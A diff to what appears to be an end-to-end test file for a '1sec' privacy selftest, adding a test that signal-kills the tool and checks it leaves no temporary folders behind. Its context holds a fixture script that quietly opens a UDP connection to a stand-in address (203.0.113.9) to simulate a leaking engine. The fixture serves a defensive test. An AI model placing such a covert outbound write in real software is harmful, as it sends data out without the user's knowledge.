@@ -3,10 +3,11 @@
 import glob
 import os
 import shutil
+import signal
 import subprocess
 import tempfile
 
-from onesec_e2e import BIN, expect, run
+from onesec_e2e import BIN, expect, run, wait_until
 
 LEAKY = """#!/bin/bash
 (sleep 1; exec 3<>/dev/udp/203.0.113.9/4242; echo x >&3) &
@@ -53,6 +54,36 @@ def an_engine_that_does_not_is_caught():
     shutil.rmtree(folder)
 
 
+def a_signal_ends_it_and_leaves_nothing():
+    folder = programs()
+    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
+        before = set(glob.glob("/tmp/1sec-selftest-*"))
+        process = subprocess.Popen([folder + "/1sec", "privacy", "selftest", "--seconds", "60"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                                   text=True)
+        engine = wait_until(lambda: engine_of(process.pid), "the engine under the selftest")
+        process.send_signal(number)
+        out, err = process.communicate(timeout=30)
+        wait_until(lambda: not os.path.exists("/proc/%d" % engine), "the engine to end after signal %d" % number)
+        left = set(glob.glob("/tmp/1sec-selftest-*")) - before
+        if number == signal.SIGKILL:  # Nobody can clean up then, the kernel apart: the engine and the network go.
+            for path in left:
+                shutil.rmtree(path)
+            continue
+        expect(process.returncode == 1 and "ended by" in err, "signal %d: %s %s" % (number, out, err))
+        expect(not left, "left after signal %d: %s" % (number, left))
+    shutil.rmtree(folder)
+
+
+def engine_of(parent):
+    """Its child, once it is the engine: the program was executed."""
+    with open("/proc/%d/task/%d/children" % (parent, parent)) as f:
+        for child in f.read().split():
+            with open("/proc/%s/comm" % child) as comm:
+                if comm.read().strip() == "1sec-engine":
+                    return int(child)
+    return None
+
+
 def without_root_it_says_so():
     folder = programs()
     done = selftest(folder, as_user=("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"))
@@ -61,4 +92,4 @@ def without_root_it_says_so():
 
 
 if __name__ == "__main__":
-    run([(f.__name__, f) for f in [an_engine_that_keeps_silent_passes, an_engine_that_does_not_is_caught, without_root_it_says_so]])
+    run([(f.__name__, f) for f in [an_engine_that_keeps_silent_passes, an_engine_that_does_not_is_caught, a_signal_ends_it_and_leaves_nothing, without_root_it_says_so]])
